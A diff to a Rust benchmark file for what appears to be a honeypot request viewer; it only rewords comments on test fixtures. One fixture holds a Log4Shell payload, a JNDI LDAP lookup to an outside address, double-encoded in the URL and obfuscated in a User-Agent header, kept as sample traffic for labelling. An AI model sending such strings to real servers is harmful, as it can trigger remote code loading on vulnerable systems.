@@ -1,7 +1,7 @@
-//! How many instructions the parts of the work take: the same figure on every machine with the same
-//! compiler.
+//! How many instructions the parts of the work take. The figures are the same on every machine with
+//! the same compiler.
 
-// The macros make modules without a word.
+// The macros make modules without documentation.
 #![allow(missing_docs)]
 
 use std::hint::black_box;
@@ -19,27 +19,27 @@ use forever200_viewer::reader::locations::Locations;
 use forever200_viewer::reader::privacy::Privacy;
 use gungraun::{library_benchmark, library_benchmark_group, main};
 
-/// What comes most often.
+/// The request that comes most often.
 fn scanner() -> Vec<u8> {
     b"GET / HTTP/1.1\r\nHost: 203.0.113.80\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n"
         .to_vec()
 }
 
-/// A look-up in a header, encoded twice.
+/// A Log4Shell lookup, in the target encoded twice, and in a header.
 fn log4shell() -> Vec<u8> {
     b"GET /?x=%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.9%252Fa%257D HTTP/1.1\r\nHost: x\r\n\
       User-Agent: ${${lower:j}ndi:ldap://203.0.113.9/a}\r\n\r\n"
         .to_vec()
 }
 
-/// The longest that is kept.
+/// A request of about the greatest length that is kept.
 fn long_form() -> Vec<u8> {
     let mut request = b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 65000\r\n\r\n".to_vec();
     request.resize(request.len() + 65_000, b'a');
     request
 }
 
-/// No protocol that anybody knows.
+/// Random bytes, which are no known protocol.
 fn noise() -> Vec<u8> {
     let next = |state: &u32| Some(state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223));
     std::iter::successors(Some(200), next)
@@ -93,8 +93,8 @@ fn decode(value: Vec<u8>) -> Option<Record> {
     Record::decode(black_box(value)).ok()
 }
 
-/// A labeller that has seen such a request before: an expression is compiled when it is first
-/// needed.
+/// Returns a labeller that has already described this request, because expressions are compiled
+/// when they are first needed.
 fn warm(request: Vec<u8>) -> (Labeller, Vec<u8>) {
     let labeller = Labeller::built_in();
     drop(labeller.describe(&request, None));
@@ -111,7 +111,8 @@ fn describe((labeller, request): (Labeller, Vec<u8>)) -> (Labeller, Vec<Label>) 
     (labeller, labels)
 }
 
-/// Pages that have been rendered before, with a full ring that they have not seen.
+/// Returns pages that have rendered one view, and a second view with a full ring that they have not
+/// rendered.
 fn full_ring() -> (Pages, View, View) {
     let describer = Arc::new(Describer {
         labeller: Arc::new(Labeller::built_in()),
